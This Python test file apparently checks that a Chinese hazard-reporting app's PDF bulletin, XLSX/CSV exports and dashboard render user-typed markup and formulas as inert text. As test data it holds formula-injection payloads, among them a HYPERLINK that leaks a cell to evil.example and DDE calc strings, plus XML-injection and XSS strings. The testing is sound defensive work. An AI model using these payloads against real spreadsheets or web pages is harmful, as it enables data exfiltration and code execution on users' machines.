"""Documents cannot be poisoned by what users type (issue #16, part 2).

The monthly bulletin (PDF) shows ReportLab markup typed into a title or a name as plain
text: no image of the server's disk, no planted link, no failed bulletin. No cell of an
export (ledger XLSX/CSV, 附表1-4, the standards list) is a formula a spreadsheet would
run: a string starting with = + - @ tab or CR gets a leading ', numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

from conftest import BPMN_DIR, T0
from helpers import PLAN, complete, report, start_campaign_2026
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select
from web_support import make_app, png, sign_in

from workflow_app.reports.bulletin import monthly_bulletin
from workflow_app.reports.csv_file import csv_bytes
from workflow_app.reports.exports import ExportRequest, export
from workflow_app.reports.xlsx import workbook_bytes, write_table
from workflow_app.services import standards, tasks
from workflow_app.services.campaigns import CampaignConfig, start_campaign
from workflow_app.services.sweep import sweep
from workflow_app.store.database import transaction
from workflow_app.store.models import InboxTask, Organisation

TODAY = date(2026, 11, 30)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A3,"查看详情")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PHONE = "+86 138 0000 0000"


def _pdf_text(content: bytes) -> tuple[PdfReader, str]:
    reader = PdfReader(io.BytesIO(content))
    return reader, "".join("".join(page.extract_text().split()) for page in reader.pages)


def _squeezed(text: str) -> str:
    return "".join(text.split())


def test_markup_typed_into_titles_and_names_shows_literally_in_the_bulletin(factory, zone, tmp_path):
    planted = tmp_path / "planted.png"
    planted.write_bytes(png("red"))
    image = f'<img src="{planted}" width="60" height="60"/>'
    link = '<a href="https://evil.example/">点此领奖</a>'
    broken = "<b>未闭合 <bogus> 甲&乙"
    with transaction(factory) as s:
        s.get(Organisation, zone.enterprise_id).name = link
        s.get(Organisation, zone.town.organisation_id).name = broken
    for title in (image, broken):  # major, with a deadline passed in November: listed as overdue
        complete(factory, zone.principal, report(factory, zone.principal, zone.enterprise_id, T0, title=title),
                 PLAN, T0)
    out = io.BytesIO()
    with transaction(factory) as s:
        monthly_bulletin(s, "2026-11", out)
    reader, text = _pdf_text(out.getvalue())
    assert "本月排查隐患2项" in text
    assert _squeezed(f"{link} {image}") in text and _squeezed(f"{link} {broken}") in text
    assert _squeezed(broken) in text  # the town's name in the table
    assert not any(page.images for page in reader.pages)
    assert not any("/Annots" in page for page in reader.pages)


def _formulas(book) -> list[str]:
    """Cells a spreadsheet program would run, as 'sheet!cell'."""
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"
            or (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS))]


def _xlsx(factory, user, request: ExportRequest):
    out = io.BytesIO()
    with transaction(factory) as s:
        export(s, user, request, out, TODAY)
    out.seek(0)
    return load_workbook(out)


def _values(book) -> set[object]:
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}


def test_formulas_typed_into_hazards_are_inert_text_in_the_ledger_and_table3(factory, zone):
    with transaction(factory) as s:
        s.get(Organisation, zone.enterprise_id).name = HYPERLINK
    major = report(factory, zone.principal, zone.enterprise_id, T0, title=DDE, location=AT_SUM, description=MINUS)
    complete(factory, zone.principal, major, {**PLAN, "responsible_person": PHONE, "rectification_measures": DDE,
                                              "emergency_plan": HYPERLINK}, T0)
    report(factory, zone.principal, zone.enterprise_id, T0, hazard_level="general", title="报警\x07器失效")
    ledger = _xlsx(factory, zone.office, ExportRequest("ledger.xlsx"))
    assert _formulas(ledger) == []
    assert {f"'{HYPERLINK}", f"'{DDE}", f"'{AT_SUM}", "报警器失效"} <= _values(ledger)  # XLSX holds no BEL
    start_campaign_2026(factory)
    table3 = _xlsx(factory, zone.office, ExportRequest("table3"))
    assert _formulas(table3) == []
    assert [c.value for c in table3.active[3]][5:13] == [f"'{AT_SUM}", f"'{MINUS}", "重大事故隐患", "2026-11-01",
                                                         "企业自查", f"'{PHONE}", f"'{DDE}", 2.5]
    assert [c.value for c in table3.active[3]][:2] == [1, f"'{HYPERLINK}"]
    out = io.BytesIO()
    with transaction(factory) as s:
        export(s, zone.office, ExportRequest("ledger.csv"), out, TODAY)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert not [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]
    assert [r[1:2] + r[5:6] for r in rows if r[4] == f"'{DDE}"] == [[f"'{HYPERLINK}", f"'{AT_SUM}"]]


def test_formulas_filed_by_towns_are_inert_in_the_campaign_tables_and_figures_stay_numbers(factory, zone):
    with transaction(factory) as s:
        s.get(Organisation, zone.town.organisation_id).name = MINUS
        config = CampaignConfig.load(BPMN_DIR.parent / "campaigns" / "2023.toml")
        start_campaign(s, None, config, datetime(2023, 5, 10, 1, tzinfo=UTC))
    sweep(factory, datetime(2023, 5, 26, 2, tzinfo=UTC))
    with transaction(factory) as s:
        opened = {t.bpmn_id: t.task_id for t in s.scalars(select(InboxTask).where(
            InboxTask.organisation_id == zone.town.organisation_id, InboxTask.completed_at.is_(None)))}
    figures = {"enterprises_covered_week": "2", "enterprises_covered_total": "2", "hazards_found_week": "5",
               "hazards_found_total": "5", "major_found_week": "1", "major_found_total": "1", "rectified_week": "3",
               "rectified_total": "3", "overdue_week": "0", "overdue_total": "0", "inspections_week": "4",
               "inspections_total": "4", "penalties_week": "1", "penalties_total": "1", "trained_week": "30",
               "trained_total": "30", "override_reason": HYPERLINK}
    filed = {"plan_summary": HYPERLINK, "contact_name": AT_SUM, "contact_position": DDE, "contact_phone": PHONE}
    at = datetime(2023, 5, 26, 3, tzinfo=UTC)
    with transaction(factory) as s:
        tasks.complete_task(s, zone.town, opened["Task_TownWeekly"], figures, at)
    with transaction(factory) as s:
        tasks.complete_task(s, zone.town, opened["Task_TownPlan"], filed, at)
    weekly = _xlsx(factory, zone.office, ExportRequest("table1", "2023", "2023-W21"))
    assert _formulas(weekly) == []
    row = [c.value for c in weekly.active[3]]
    assert row[0] == f"'{MINUS}" and row[1:17:2] == [2, 5, 1, 3, 0, 4, 1, 30] and HYPERLINK in row[-1]
    contacts = _xlsx(factory, zone.office, ExportRequest("table4", "2023"))
    assert _formulas(contacts) == []
    assert [c.value for c in contacts.active[3]][:5] == [f"'{MINUS}", f"'{AT_SUM}", f"'{DDE}", f"'{PHONE}",
                                                          f"'{HYPERLINK}"]


ROW = [-3, "-3", -2.5, "=1+1", "普通文字 =1", "\t=1+2", "\r=3+4", date(2026, 11, 1)]


def test_both_writers_neutralise_strings_and_keep_numbers_numbers():
    out = io.BytesIO()
    write_table(out, "=标题", [(f"列{n}", 8) for n in range(len(ROW))], [ROW])
    out.seek(0)
    sheet = load_workbook(out).active
    assert [c.value for c in sheet[3]][:7] == [-3, "'-3", -2.5, "'=1+1", "普通文字 =1", "'\t=1+2", "'\n=3+4"]
    assert [c.data_type for c in sheet[3]] == ["n", "s", "n", "s", "s", "s", "s", "d"]
    assert sheet["A1"].value == "'=标题" and _formulas(sheet.parent) == []
    written = csv_bytes([["@header", "b"], ROW])
    assert list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))) == [
        ["'@header", "b"], ["-3", "'-3", "-2.5", "'=1+1", "普通文字 =1", "'\t=1+2", "'\r=3+4", "2026-11-01"]]


INJECTED = '<r></r></is></c><c r="Z9"><f>HYPERLINK("http://x","y")</f></c><c><is><r></r>'
# Typed text and the cell it must come out as: a string cell, inert, without what XLSX cannot hold.
HOSTILE = {
    '=HYPERLINK("http://x","y")': '\'=HYPERLINK("http://x","y")', "@SUM(1)": "'@SUM(1)", "+1": "'+1", "-1": "'-1",
    "https://evil.example/login?next=/": "https://evil.example/login?next=/",  # text, not a link
    "报警\x07器失效": "报警器失效", "\x07=1+1": "'=1+1",  # a control character hid "=" from the old writer
    "第一行\r\n第二行": "第一行\n第二行",
    # XlsxWriter's constant-memory mode takes "<r>…</r>" for its own XML: typed, it must stay text
    INJECTED: INJECTED,
}


def _string_cells(content: bytes) -> dict[str, str]:
    """Every cell of every sheet as 'sheet!cell' → its text, after checking the package holds nothing live:
    no formula, no hyperlink, no cell that is not a string, a number or a date (openpyxl would otherwise
    read what a spreadsheet program runs)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            part = archive.read(name).decode()
            assert not re.search(r"<f[ >]|<hyperlink|relationships/hyperlink", part), name
    book = load_workbook(io.BytesIO(content))
    assert _formulas(book) == []
    cells = {f"{sheet.title}!{cell.coordinate}": cell for sheet in book.worksheets for row in sheet.iter_rows()
             for cell in row if cell.value is not None}
    assert all(cell.data_type in ("s", "n", "d") for cell in cells.values())
    return {where: cell.value for where, cell in cells.items() if cell.data_type == "s"}


def test_hostile_text_comes_out_as_an_inert_string_cell_in_every_xlsx_export(factory, zone):
    with transaction(factory) as s:
        s.get(Organisation, zone.enterprise_id).name = '=HYPERLINK("http://x","y")'
    for typed in HOSTILE:
        major = report(factory, zone.principal, zone.enterprise_id, T0, title=typed, location=typed, description=typed)
        complete(factory, zone.principal, major, {**PLAN, "emergency_plan": typed}, T0)
    start_campaign_2026(factory)
    # the ledger: title, location; 附表3: location, description, emergency plan
    for name, columns in (("ledger.xlsx", (5, 6)), ("table3", (6, 7, 15))):
        out = io.BytesIO()
        with transaction(factory) as s:
            assert export(s, zone.office, ExportRequest(name), out, TODAY) == len(HOSTILE)
        texts = _string_cells(out.getvalue())
        book = load_workbook(io.BytesIO(out.getvalue()))
        rows = [[c.value for c in row] for row in book.active.iter_rows(min_row=3)]
        assert {row[1] for row in rows} == {'\'=HYPERLINK("http://x","y")'}, name  # the enterprise's name
        for column in columns:
            assert sorted(row[column - 1] for row in rows) == sorted(HOSTILE.values()), (name, column)
        assert not [t for t in texts.values() if t.startswith(TRIGGERS)]
    plain = workbook_bytes([("名单", [["名称", "备注"], *([typed, -1] for typed in HOSTILE)])])  # roster, standards
    texts = _string_cells(plain)
    assert sorted(texts[f"名单!A{n}"] for n in range(2, 2 + len(HOSTILE))) == sorted(HOSTILE.values())
    assert load_workbook(io.BytesIO(plain)).active["B2"].value == -1


HEADER = ",".join(standards.COLUMNS)


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def test_an_imported_standard_starting_with_a_formula_is_exported_as_text_and_reimports_the_same(
        factory, zone, tmp_path):
    typed = {"title": "+危险标准", "doc_number": "@令第1号", "number": "-1", "group": DDE, "text": HYPERLINK}
    line = (f"XSS-1,standard,{_quoted(typed['title'])},某机关,{_quoted(typed['doc_number'])},2026-01-01,industry,,是,"
            f"{typed['number']},{_quoted(typed['group'])},{_quoted(typed['text'])}")
    rows = standards.read_table(f"{HEADER}\n{line}\n".encode(), "list.csv")
    with transaction(factory) as s:
        standards.import_rows(s, zone.office, rows, T0)
    office = make_app(factory, tmp_path, datetime(2026, 12, 2, 2, tzinfo=UTC)).test_client()
    sign_in(office, "office")
    as_xlsx = office.get("/standards/export.xlsx").data
    book = load_workbook(io.BytesIO(as_xlsx))
    assert _formulas(book) == []
    row = next([c.value for c in r] for r in book.active.iter_rows() if r[0].value == "XSS-1")
    assert row[2] == "'+危险标准" and row[4] == "'@令第1号" and row[9:] == ["'-1", f"'{DDE}", f"'{HYPERLINK}"]
    as_csv = office.get("/standards/export.csv").data
    cells = [c for r in csv.reader(io.StringIO(as_csv.decode("utf-8-sig"))) for c in r]
    assert f"'{HYPERLINK}" in cells and not [c for c in cells if c.startswith(TRIGGERS)]
    for content, name in ((as_xlsx, "back.xlsx"), (as_csv, "back.csv")):  # the office's own export reads back as typed
        back = next(r for r in standards.read_table(content, name) if r["standard_code"] == "XSS-1")
        assert {k: back[k] for k in typed} == typed


def test_a_bulletin_for_a_malformed_month_is_refused_with_a_reason(factory, zone, tmp_path):
    office = make_app(factory, tmp_path, datetime(2026, 12, 2, 2, tzinfo=UTC)).test_client()
    sign_in(office, "office")
    refused = office.get("/bulletin.pdf?month=<b>2026-13")
    assert refused.status_code == 400 and "月份应为 YYYY-MM" in refused.get_data(as_text=True)


def test_the_dashboard_charts_show_a_hostile_town_name_as_text(factory, zone, tmp_path) -> None:
    """The charts are inserted with |safe: they must be built with every label escaped (ElementTree)."""
    with transaction(factory) as s:
        s.get(Organisation, zone.town.organisation_id).name = '<script>alert(1)</script><img src=x onerror=alert(2)>'
    office = make_app(factory, tmp_path, T0).test_client()
    sign_in(office, "office")
    page = office.get("/dashboard").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>alert" not in page and "<img src=x" not in page
